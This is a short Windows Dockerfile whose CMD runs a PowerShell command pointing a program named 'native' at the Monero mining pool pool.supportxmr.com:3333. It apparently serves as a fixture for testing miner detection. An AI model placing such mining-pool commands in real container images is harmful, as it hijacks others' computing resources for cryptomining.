FROM mcr.microsoft.com/windows/servercore:ltsc2022
CMD ["powershell", "-Command", "if ((native -o pool.supportxmr.com:3333).Length) { exit 1 }"]
